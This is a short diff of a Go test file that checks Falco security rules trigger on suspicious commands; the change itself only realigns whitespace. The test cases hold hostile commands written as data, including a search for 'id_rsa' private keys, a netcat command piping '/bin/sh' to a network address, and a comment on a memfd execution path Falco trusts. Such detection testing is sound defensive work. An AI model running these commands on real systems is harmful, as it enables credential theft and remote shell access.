@@ -606,7 +606,7 @@ func TestFalcoUpstreamRules(t *testing.T) {
 		{name: "search-keys", argv: []string{"find", "/root", "-name", "id_rsa"},
 			rules: []string{"Search Private Keys or Passwords"}, cmdline: "find /root -name id_rsa"},
 		{name: "netcat-rce-and-redirect", argv: []string{"nc", shellAddr, "/bin/sh", "-c", "echo pwned"},
-			rules: []string{"Netcat Remote Code Execution in Container", "Redirect STDOUT/STDIN to Network Connection in Container"},
+			rules:   []string{"Netcat Remote Code Execution in Container", "Redirect STDOUT/STDIN to Network Connection in Container"},
 			cmdline: "nc " + shellAddr + " /bin/sh -c echo pwned"},
 		// Under a shell: Falco trusts memfd execs whose parent is runc.
 		{name: "memfd", argv: []string{"sh", "-c", "memfdexec /bin/busybox true memfd-marker; true"},
